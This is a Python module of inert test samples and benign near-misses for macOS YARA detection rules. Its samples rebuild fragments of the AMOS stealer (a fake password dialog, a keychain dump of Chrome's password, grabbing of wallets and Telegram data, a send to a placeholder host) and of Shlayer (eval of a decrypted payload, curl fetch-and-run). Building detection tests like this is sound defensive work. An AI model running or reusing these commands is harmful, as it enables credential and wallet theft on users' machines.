"""Inert samples and near-misses for signatures/rules/macos.yar.

The Mach-O sample is a bare header with no load commands followed by the stealer's strings; the
AppleScript and shell samples stop on their first line (``return`` / ``exit``). Near-misses are an
honest Mach-O that asks for a password, an AppleScript backup tool and installer scripts.
"""

from __future__ import annotations

from sample_blocks import HOST, INERT_NOTE, Builders, a, macho, split, text


def amos_macho() -> dict[str, bytes]:
    return {
        "amos-stealer-macho": macho(
            *a(
                INERT_NOTE,
                split("dscl /Local/Default -auth", "only "),
                split(
                    'osascript -e \'display dialog "macOS needs to access System Settings" ',
                    'default answer "" with hidden answer\'',
                ),
                split("security 2>&1 > /dev/null find-generic-password -ga ", "'Chrome' | awk '{print $2}'"),
                split("desk", "wallets/Electrum"),
                split("File", "Grabber/"),
                split(f"http://{HOST}/send", "log"),
            )
        )
    }


def amos_script() -> dict[str, bytes]:
    return {
        "amos-stealer-applescript": text(
            f"return -- {INERT_NOTE}",
            split("on desk", "wallets(writemind, deskwals)"),
            "  repeat with deskwal in deskwals",
            split("    try\n      Grab", "Folder(item 2 of deskwal, writemind & item 1 of deskwal)\n    end try"),
            "  end repeat",
            "end deskwallets",
            split("on tele", "gram(writemind, library)"),
            split('  GrabFolder(library & "Telegram Desktop/', 'tdata/", writemind & "Telegram Data/")'),
            "end telegram",
            split("on file", "grabber(writemind)"),
            split('  set destinationFolderPath to POSIX file (writemind & "File', 'Grabber/")'),
            split("  read", "write(readpath, writepath)"),
            "end filegrabber",
        )
    }


def shlayer_stage1() -> dict[str, bytes]:
    return {
        "shlayer-stage1-command": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            split('cd "$(dirname "$BASH', '_SOURCE")"'),
            'fileDir="$(dirname "$(pwd -P)")"',
            split(
                'eval "$(openssl enc -base64 -d -aes-256-cbc -nosalt ', '-pass pass:2197042 <"$fileDir"/Resources/enc)"'
            ),
        )
    }


def shlayer_stage2() -> dict[str, bytes]:
    return {
        "shlayer-stage2-sh": text(
            "#!/bin/bash",
            f"exit 0  # {INERT_NOTE}",
            split('_t="$(mktemp -t Inst', 'aller)"'),
            split('curl -f0L "http://', f'{HOST}/sd/?c=inert" >/dev/null 2>&1 >"$_t/i.tgz"'),
            'tar -xzf "$_t/i.tgz" -C "$_t"',
            split('chmod 777 "$_t"', "/*/Contents/MacOS/*"),
            split('open -a "$_t"', "/*.app --args -s inert"),
            split("killall Ter", "minal"),
        )
    }


def near_macho() -> dict[str, bytes]:
    return {
        "admin-helper-macho": macho(
            *a(
                'osascript -e \'display dialog "Enter your password to install the helper" '
                'default answer "" with hidden answer\'',
                "security find-generic-password -ga 'Helper' -w",
                "/usr/bin/dscl . -read /Users/admin",
                "https://updates.example.org/helper/version",
            )
        )
    }


def near_applescript() -> dict[str, bytes]:
    return {
        "backup-documents-applescript": text(
            "on backupFolder(src, dest)",
            '  do shell script "ditto " & quoted form of src & " " & quoted form of dest',
            "end backupFolder",
            "on telegramExport(dest)",
            '  backupFolder(POSIX path of (path to home folder) & "Library/Group Containers/", dest)',
            "end telegramExport",
            'backupFolder("/Users/alice/Documents", "/Volumes/Backup/Documents")',
        )
    }


def near_installer() -> dict[str, bytes]:
    return {
        "installer-postinstall-sh": text(
            "#!/bin/bash",
            'cd "$(dirname "$BASH_SOURCE")"',
            'TMP="$(mktemp -d -t example-installer)"',
            'curl -fsSL "https://downloads.example.org/app.tgz" -o "$TMP/app.tgz"',
            'PASS=$(openssl enc -base64 -d -aes-256-cbc -nosalt -pass pass:example < "$TMP/secret")',
            'tar -xzf "$TMP/app.tgz" -C /Applications && chmod 755 "/Applications/Example.app"',
            'open -a "/Applications/Example.app"',
        )
    }


SAMPLES: Builders = {
    "AMOS_Stealer_MachO": amos_macho,
    "AMOS_Stealer_AppleScript": amos_script,
    "Shlayer_Bash_Decryptor": shlayer_stage1,
    "Shlayer_Bash_Downloader": shlayer_stage2,
}

NEARMISS: Builders = {
    "AMOS_Stealer_MachO": near_macho,
    "AMOS_Stealer_AppleScript": near_applescript,
    "Shlayer_Bash_Decryptor": near_installer,
    "Shlayer_Bash_Downloader": near_installer,
}
